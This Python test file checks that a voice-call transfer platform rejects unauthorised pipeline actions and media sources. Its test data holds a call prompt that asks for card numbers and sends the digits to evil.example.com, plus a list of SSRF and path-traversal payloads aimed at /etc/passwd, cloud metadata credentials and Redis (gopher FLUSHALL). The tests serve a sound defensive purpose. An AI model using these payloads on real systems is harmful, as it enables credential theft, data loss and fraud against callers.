"""Attempts to make the platform say, ask, record, fetch or post what nobody has allowed."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from support.cluster import make_intent
from support.signing import VOICE_KEY
from transfer_tasks.outcome import Reason, State
from transfer_tasks.signature import parse_signing_key

if TYPE_CHECKING:
    from support.attackers import Attacker
    from support.signing import SignedCluster

CONNECT = {"action": "connect", "endpoints": ["+1 202-555-0100"]}
ASK_FOR_A_CARD = {
    "action": "play_get_input",
    "input": ["dtmf"],
    "prompt": {
        "type": "say",
        "say": "Please enter your card number",
        "language": "en-US",
        "voice_id": "v",
        "speed": 1.0,
    },
    "on_result": {"type": "url", "url": "https://evil.example.com/cards"},
}

ACTIONS = {
    "asks for a card number": [ASK_FOR_A_CARD, CONNECT],
    "asks afterwards": [CONNECT, ASK_FOR_A_CARD],
    "collects keys": [{"action": "input", "on_result": {"type": "pcmo", "ref": "menu"}}, CONNECT],
    "records": [{"action": "record"}, CONNECT],
    "records the new leg": [CONNECT | {"params": {"options": {"recording": {"enabled": True}}}}],
    "records by default": [CONNECT | {"params": {"options": {"recording": {"format": "wav"}}}}],
    "hangs up first": [{"action": "hangup"}, CONNECT],
    "plays afterwards": [CONNECT, {"action": "play", "file_name": "hold.wav"}],
}
MEDIA = [
    "other.wav",
    "../../x",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[::1]:6379/",
    "http://[::ffff:169.254.169.254]/",
    "http://2852039166/",
    "http://0xa9.0xfe.0xa9.0xfe/",
    "http://0251.0376.0251.0376/",
    "http://127.1:8900/v3",
    "http://localhost./",
    "http://metadata.google.internal./computeMetadata/v1/",
    "http://169。254。169。254/",
    "https://media.example.com@169.254.169.254/",
    "https://media.example.com:6379/",
    "https://media.example.com./hold.wav",
    "https://media.example.com.evil.example/hold.wav",
    "http://media.example.com/hold.wav",
    "//169.254.169.254/",
    "\\\\10.0.0.1\\share",
    "gopher://redis:6379/_FLUSHALL",
]


def assert_refused(signed: SignedCluster, transfer_id: str, call_id: str) -> None:
    record = signed.ending(transfer_id)
    assert (record.state, record.reason) == (State.REJECTED, Reason.ACTION_NOT_ALLOWED), record.detail
    assert signed.posts(call_id) == 0
    with signed.bench() as bench:
        last = bench.audit(transfer_id)[-1]
    assert (last["event"], last["reason"]) == ("transfer.finished", "action_not_allowed")
    assert "TRANSFER_ALLOW" in last["detail"] or "Put" in last["detail"] or "no setting" in last["detail"]


@pytest.mark.parametrize("kind", ACTIONS)
def test_a_publishers_pipeline(signed: SignedCluster, attacker: Attacker, kind: str) -> None:
    intent = make_intent(ACTIONS[kind])
    assert_refused(signed, attacker.submit(VOICE_KEY, intent), intent.call_id)


@pytest.mark.parametrize("media", MEDIA)
@pytest.mark.parametrize("place", ["play", "waiting_music"])
def test_media_that_nobody_has_allowed(
    signed: SignedCluster, attacker: Attacker, media: str, place: str
) -> None:
    if place == "play":
        intent = make_intent([{"action": "play", "file_name": media}, CONNECT])
    else:
        intent = make_intent("support", options={"waiting_music": media})
    assert_refused(signed, attacker.submit(VOICE_KEY, intent), intent.call_id)


@pytest.mark.parametrize("kind", ACTIONS)
def test_a_pipeline_of_plain_celery(signed: SignedCluster, attacker: Attacker, kind: str) -> None:
    intent = make_intent(ACTIONS[kind])
    attacker.push(intent.transfer_id, parse_signing_key(VOICE_KEY).sign(intent.to_json()))
    assert_refused(signed, intent.transfer_id, intent.call_id)


def test_a_pipeline_that_is_written_into_the_record(signed: SignedCluster, attacker: Attacker) -> None:
    """With the key, and Redis's password: what the worker reads is checked, whoever has accepted it."""
    intent = make_intent([CONNECT])
    with signed.held_up(), signed.bench() as bench:
        transfer_id = signed.submit(VOICE_KEY, intent)
        asked: Any = json.loads(bench.record(transfer_id).intent_json)
        asked["destination"]["pipeline"].insert(0, ASK_FOR_A_CARD)
        text, signature = parse_signing_key(VOICE_KEY).sign(json.dumps(asked))
        attacker.alter(transfer_id, intent=text, signature=signature)
    assert_refused(signed, transfer_id, intent.call_id)


def test_what_is_allowed_is_sent(signed: SignedCluster) -> None:
    intent = make_intent([{"action": "play", "file_name": "hold.wav"}, CONNECT, {"action": "hangup"}])
    assert signed.ending(signed.submit(VOICE_KEY, intent)).state is State.SUBMITTED
    (post,) = signed.cluster.sandbox.requests(intent.call_id)
    assert [action["action"] for action in post["pipeline"]] == ["play", "connect", "hangup"]
